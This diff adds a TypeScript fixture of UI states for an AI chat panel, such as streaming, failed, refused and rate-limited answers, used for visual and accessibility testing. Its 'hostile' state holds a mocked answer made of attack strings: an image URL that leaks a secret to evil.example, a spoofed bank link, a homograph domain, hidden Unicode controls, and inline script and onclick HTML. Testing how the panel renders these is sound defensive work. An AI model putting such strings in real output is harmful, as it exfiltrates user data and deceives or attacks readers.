@@ -1,0 +1,173 @@
+import type { OpenOptions, ThemeName } from "./harness.ts";
+import type { Panel } from "./panel.ts";
+import { answer, failure, question, running, sampleAnswer, sampleReasoning, snapshot } from "./views.ts";
+
+/** A state of the panel that has to look good and be accessible. */
+export interface PanelState {
+  readonly options: OpenOptions;
+  readonly act?: (panel: Panel) => Promise<void>;
+  readonly looks: readonly (readonly [ThemeName, number])[];
+}
+
+const everywhere = [
+  ["dark", 320],
+  ["light", 320],
+  ["highContrast", 320],
+  ["highContrastLight", 320],
+  ["dark", 220],
+  ["light", 600],
+] as const;
+const twice = [
+  ["dark", 320],
+  ["light", 320],
+] as const;
+
+const ask = question("How does `subtotal` work, and can it be shorter?", {
+  context: [{ id: "x", label: "cart.ts:8-14", detail: "src/cart.ts" }],
+});
+
+export const states: Readonly<Record<string, PanelState>> = {
+  empty: { options: {}, looks: everywhere },
+  noToken: {
+    options: {
+      snapshot: snapshot({ account: { state: "signedOut", source: undefined }, draft: "My question" }),
+    },
+    looks: everywhere,
+  },
+  finished: {
+    options: {
+      snapshot: snapshot({ messages: [ask, answer(sampleAnswer, { reasoning: sampleReasoning })] }),
+      height: 1500,
+    },
+    looks: everywhere,
+  },
+  thinking: {
+    options: {
+      snapshot: snapshot({ messages: [ask, answer("", { ...running, reasoning: sampleReasoning })] }),
+    },
+    looks: twice,
+  },
+  streaming: {
+    options: { snapshot: snapshot({ messages: [ask, answer(sampleAnswer.slice(0, 700), running)] }) },
+    looks: twice,
+  },
+  reasoningOpen: {
+    options: { snapshot: snapshot({ messages: [ask, answer("Yes.", { reasoning: sampleReasoning })] }) },
+    act: (panel) => panel.page.getByRole("button", { name: /Thought for/ }).click(),
+    looks: twice,
+  },
+  failed: {
+    options: {
+      snapshot: snapshot({
+        messages: [
+          ask,
+          answer("Half an ans", { state: { type: "failed", error: failure }, figures: undefined }),
+        ],
+      }),
+    },
+    looks: everywhere,
+  },
+  rejected: {
+    options: { replies: { send: () => ({ type: "rejected", error: failure }) } },
+    act: async (panel) => {
+      await panel.box.fill("This text stays\nin the box");
+      await panel.button("Send").click();
+      await panel.page.locator(".notice .error").waitFor();
+    },
+    looks: twice,
+  },
+  reconnecting: {
+    options: {
+      snapshot: snapshot({
+        messages: [
+          ask,
+          answer("The first part", {
+            state: { type: "running", phase: { type: "reconnecting", attempt: 2, delayMs: 900 } },
+            figures: undefined,
+          }),
+        ],
+      }),
+    },
+    looks: twice,
+  },
+  rateLimited: {
+    options: {
+      snapshot: snapshot({
+        messages: [
+          ask,
+          answer("", {
+            state: { type: "running", phase: { type: "rateLimited", delayMs: 42_000 } },
+            figures: undefined,
+          }),
+        ],
+      }),
+    },
+    looks: twice,
+  },
+  cancelled: {
+    options: {
+      snapshot: snapshot({ messages: [ask, answer("The first part", { state: { type: "cancelled" } })] }),
+    },
+    looks: twice,
+  },
+  truncated: {
+    options: {
+      snapshot: snapshot({
+        messages: [ask, answer("```js\nlet a = 1;", { state: { type: "complete", truncated: true } })],
+      }),
+    },
+    looks: twice,
+  },
+  refused: {
+    options: { snapshot: snapshot({ messages: [ask, answer("", { refusal: "I can’t help with that." })] }) },
+    looks: twice,
+  },
+  emptyAnswer: {
+    options: { snapshot: snapshot({ messages: [ask, answer("")] }) },
+    looks: twice,
+  },
+  context: {
+    options: {
+      snapshot: snapshot({
+        draft: "Explain this,\nline by line.\n\nAnd say what is slow.",
+        composer: {
+          model: { id: "zai-org/GLM-5.1-FP8", name: "GLM-5.1" },
+          context: [
+            { id: "1", label: "cart.ts:8-14", detail: "src/cart.ts" },
+            { id: "2", label: "a-file-with-a-very-long-name-that-needs-room.test.ts", detail: "src/long.ts" },
+          ],
+        },
+      }),
+    },
+    looks: everywhere,
+  },
+  long: {
+    options: {
+      snapshot: snapshot({
+        messages: Array.from({ length: 20 }, (_, at) => [
+          question(`Question ${at}`, { id: `q${at}` }),
+          answer(sampleAnswer, { id: `a${at}` }),
+        ]).flat(),
+      }),
+    },
+    act: async (panel) => {
+      await panel.page.locator(".scroller").hover();
+      await panel.page.mouse.wheel(0, -600);
+      await panel.page.locator(".jump:not([hidden])").waitFor();
+    },
+    looks: everywhere,
+  },
+  hostile: {
+    options: {
+      snapshot: snapshot({
+        messages: [
+          ask,
+          answer(
+            'See ![chart](https://evil.example/p.png?q=secret), [docs](http://plain.example), [run](command:x), [bank](https://bank.example@evil.example/), [bank.example](https://evil.example/login), [аррӏе](https://аррӏе.com).\n\nif (a\u202e b\u200b) \u{e0041}\u{e0042} <b>bold?</b>\n\n<div onclick="x()">\n<script>alert(1)</script>\n</div>\n\nA line<br>broken, https://valarhq.ai/docs.',
+          ),
+        ],
+      }),
+    },
+    looks: twice,
+  },
+};
